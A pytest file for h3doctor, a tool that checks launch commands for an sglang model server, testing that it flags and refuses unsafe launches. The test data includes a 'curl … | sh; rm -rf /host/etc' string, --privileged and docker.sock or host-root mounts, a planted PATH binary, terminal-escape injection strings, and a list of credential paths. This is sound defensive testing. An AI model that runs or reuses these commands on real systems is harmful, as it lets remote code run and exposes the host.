"""What `check --exec` shows and refuses (docs/security.md, "What `--exec` shows and refuses"):
the program and the whole command are printed before any exec; a container script's other
commands, --privileged and the like, host-root mounts and a PATH from the input are findings
(H3D960-H3D963) in check and lint alike, and `--exec` starts none of them without
--allow-unsafe-exec. Stand-ins for `sglang` and `docker` record what they were started with."""

from __future__ import annotations

import json
import shutil
import subprocess
import sys
import textwrap
from pathlib import Path

import pytest

from launch_helpers import StubSglang

FLAGS = ["MiniMaxAI/MiniMax-H3", "--num-gpus", "4"]
CLEAN = ["sglang", "serve", *FLAGS]
IMAGE = "lmsysorg/sglang:v0.5.23"

# one input per class, each a launch that passed with "no finding" before (a container with room for
# its ranks' /dev/shm, --ipc=host: only the class is unsafe)
UNSAFE = {
    "H3D960": ["docker", "run", "--gpus", "all", "--ipc=host", IMAGE, "bash", "-lc",
               'curl -s https://example.invalid/x | sh; rm -rf /host/etc; exec sglang serve "$@"', "--", *FLAGS],
    "H3D961": ["docker", "run", "--gpus", "all", "--ipc=host", "--privileged", IMAGE, "sglang", "serve", *FLAGS],
    "H3D962": ["docker", "run", "--gpus", "all", "--ipc=host", "-v", "/:/host", IMAGE, "sglang", "serve", *FLAGS],
    "H3D963": ["PATH=./bin", "sglang", "serve", *FLAGS],
}


@pytest.fixture
def stub(tmp_path):
    stub = StubSglang(tmp_path / "stub")
    shutil.copy(stub.bin / "sglang", stub.bin / "docker")  # the container runtime exec starts
    return stub


def h3doctor(stub: StubSglang, *args: str, cwd: Path | None = None, env: dict | None = None) -> subprocess.CompletedProcess:
    return subprocess.run([sys.executable, "-m", "h3doctor", *args], capture_output=True, text=True,
                          env={**stub.env(), **(env or {})}, timeout=60, cwd=cwd, stdin=subprocess.DEVNULL)


def test_the_program_and_the_command_are_printed_before_exec(stub):
    proc = h3doctor(stub, "check", "--exec", "--profile", "4xH200", "--", *CLEAN, "--served-model-name", "a b")
    assert proc.returncode == 0, proc.stderr
    assert [c["argv"] for c in stub.calls()] == [CLEAN[1:] + ["--served-model-name", "a b"]]
    lines = proc.stderr.splitlines()
    assert f"h3doctor: exec starts {stub.bin / 'sglang'}" in lines  # absolute, on the PATH exec uses
    assert "h3doctor: command: sglang serve MiniMaxAI/MiniMax-H3 --num-gpus 4 --served-model-name 'a b'" in lines


@pytest.mark.parametrize("rule", sorted(UNSAFE))
def test_each_class_is_a_finding_in_check(stub, rule):
    proc = h3doctor(stub, "check", "--format", "json", "--profile", "4xH200", "--", *UNSAFE[rule])
    found = {f["rule"]: f for f in json.loads(proc.stdout)["findings"]}
    assert rule in found and found[rule]["severity"] == "warning", proc.stdout


_SCRIPT_LINES = {
    "H3D960": "docker run --gpus all {image} bash -lc 'curl -s https://example.invalid/x | sh; exec sglang serve \"$@\"' -- {flags}",
    "H3D961": "docker run --gpus all --cap-add=SYS_ADMIN {image} sglang serve {flags}",
    "H3D962": "docker run --gpus all --mount type=bind,source=/var/run/docker.sock,target=/s {image} sglang serve {flags}",
}


@pytest.mark.parametrize("rule", sorted(UNSAFE))
def test_each_class_is_a_finding_in_lint_json_and_sarif(stub, tmp_path, rule):
    work = tmp_path / "repo"
    work.mkdir()
    if rule == "H3D963":  # a recipe's env
        (work / "r.yaml").write_text("command: sglang serve MiniMaxAI/MiniMax-H3 --num-gpus 4\n"
                                     "env:\n  PATH: ./bin:/usr/bin\n", encoding="utf-8")
    else:
        line = _SCRIPT_LINES[rule].format(image=IMAGE, flags=" ".join(FLAGS))
        (work / "serve.sh").write_text(f"#!/bin/sh\n{line}\n", encoding="utf-8")
    proc = h3doctor(stub, "lint", "--no-config", "--target", "4xH200", "--format", "json", ".", cwd=work)
    assert rule in {f["rule"] for f in json.loads(proc.stdout)["findings"]}, proc.stdout
    proc = h3doctor(stub, "lint", "--no-config", "--target", "4xH200", "--format", "sarif", ".", cwd=work)
    results = json.loads(proc.stdout)["runs"][0]["results"]
    assert {(r["ruleId"], r["level"]) for r in results} >= {(rule, "warning")}


@pytest.mark.parametrize("rule", sorted(UNSAFE))
def test_exec_refuses_each_class_unless_allowed(stub, tmp_path, rule):
    planted = tmp_path / "bin"  # PATH=./bin: the stand-in there is what runs
    planted.mkdir()
    shutil.copy(stub.bin / "sglang", planted / "sglang")
    for extra in ([], ["--force"]):  # --force launches past findings, never past these
        proc = h3doctor(stub, "check", "--exec", *extra, "--profile", "4xH200", "--", *UNSAFE[rule], cwd=tmp_path)
        assert proc.returncode == 1 and stub.calls() == [], proc.stderr
        assert f"not launching: {rule} (warning)" in proc.stderr
    proc = h3doctor(stub, "check", "--exec", "--allow-unsafe-exec", "--profile", "4xH200", "--", *UNSAFE[rule],
                    cwd=tmp_path)
    assert proc.returncode == 0, proc.stderr
    [call] = stub.calls()
    assert call["argv"] == [w for w in UNSAFE[rule] if not w.startswith("PATH=")][1:]
    assert f"--allow-unsafe-exec: launching despite {rule} (warning)" in proc.stderr


def test_a_recipes_path_never_chooses_the_planted_sglang_silently(stub, tmp_path):
    checkout = tmp_path / "checkout"  # someone else's repository: a recipe and its own bin/sglang
    (checkout / "bin").mkdir(parents=True)
    planted = checkout / "bin" / "sglang"
    shutil.copy(stub.bin / "sglang", planted)
    (checkout / "recipe.yaml").write_text(textwrap.dedent(f"""\
        profile: 4xH200
        command: sglang serve MiniMaxAI/MiniMax-H3 --num-gpus 4
        env:
          PATH: ./bin:{stub.bin}
        """), encoding="utf-8")
    proc = h3doctor(stub, "check", "--exec", "--recipe", "recipe.yaml", cwd=checkout)
    assert proc.returncode == 1 and stub.calls() == [] and "H3D963" in proc.stderr
    proc = h3doctor(stub, "check", "--exec", "--allow-unsafe-exec", "--recipe", "recipe.yaml", cwd=checkout)
    assert proc.returncode == 0, proc.stderr
    assert (f"h3doctor: exec starts {planted}; h3doctor's own PATH finds {stub.bin / 'sglang'}: "
            "the launch's PATH chooses this one") in proc.stderr.splitlines()


def test_the_program_env_starts_is_shown_with_the_path_it_is_looked_up_on(stub, tmp_path):
    planted = tmp_path / "bin"
    planted.mkdir()
    shutil.copy(stub.bin / "sglang", planted / "sglang")
    proc = h3doctor(stub, "check", "--exec", "--allow-unsafe-exec", "--profile", "4xH200", "--",
                    "env", "PATH=./bin", *CLEAN, cwd=tmp_path)
    assert proc.returncode == 0, proc.stderr
    assert (f"h3doctor: which starts {planted / 'sglang'}; h3doctor's own PATH finds {stub.bin / 'sglang'}: "
            "the launch's PATH chooses this one") in proc.stderr.splitlines()


HOSTILE = "--served-model-name=x\u202e\u2066\u200b\x1b[2K\rok"


def test_the_apply_fixes_notice_is_inert():
    from h3doctor.launch.gate import Verdict, decide

    before = [*CLEAN, "--attention-backend", HOSTILE]
    after = [*CLEAN, "--attention-backend", "fa", HOSTILE + "\x07"]
    notice = decide(Verdict(["H3D305 (error)"], after, "fixed"), before, apply_fixes=True).notice
    assert not any(c in notice for c in "\u202e\u2066\u200b\x1b\r\x07"), notice
    assert "\\xe2\\x80\\xae" in notice and "\\e[2K" in notice  # escaped, as bash's $'…' reads them back


def test_what_runs_is_inert():
    from h3doctor.launch.gate import what_runs

    shown = what_runs(["sglang\u202e", "serve", HOSTILE], {"PATH": "/nonexistent"})
    assert not any(c in shown for c in "\u202e\u2066\u200b\x1b\r"), shown
    assert "(not found)" in shown


def test_the_findings_hold_for_a_launch_h3doctor_does_not_resolve(run_check):
    """Worked out from the launch's words alone: a model that is not MiniMax-H3 gets them too."""
    launch = f"docker run --gpus all --privileged -v /etc:/e {IMAGE} sglang serve Qwen/Qwen-Image --num-gpus 4"
    ids = {f.rule.id for f in run_check(launch).evaluation.findings}
    assert {"H3D961", "H3D962"} <= ids, ids


@pytest.mark.parametrize("source,named", [
    ("/", True), ("/etc", True), ("/etc/passwd", True), ("/var", True), ("/var/run/docker.sock", True),
    ("/run/docker.sock", True), ("/root", True), ("/home/alice", True), ("~", True), ("$HOME", True),
    ("${HOME}/.ssh", True), ("/srv/x/.aws/credentials", True), ("$DATA/models", True),
    ("/srv/cache/huggingface", False), ("~/.cache/huggingface", False), ("/models", False), ("/data/hf", False),
    ("/home/alice/models", False), ("./weights", False), ("~bob", True), ("~/", True), ("../../..", True),
    ("hf-cache", False),
])
def test_which_host_paths_are_sensitive(source, named):
    from h3doctor.engine.derivations.exec_safety import sensitive

    assert sensitive(source) is named


@pytest.mark.parametrize("options,named", [
    ("--privileged", "--privileged"), ("--cap-add ALL", "--cap-add=ALL"), ("--cap-add=cap_sys_admin", "--cap-add=cap_sys_admin"),
    ("--pid=host", "--pid=host"), ("--security-opt seccomp=unconfined", "--security-opt=seccomp=unconfined"),
    ("--security-opt apparmor=unconfined", "--security-opt=apparmor=unconfined"),
    ("--ipc=host --network host --cap-add SYS_NICE --security-opt no-new-privileges", ""),
])
def test_which_container_options_are_named(run_check, options, named):
    result = run_check(f"docker run --gpus all {options} {IMAGE} sglang serve " + " ".join(FLAGS))
    assert result.evaluation.context["derived.exec_container_privileges"] == named
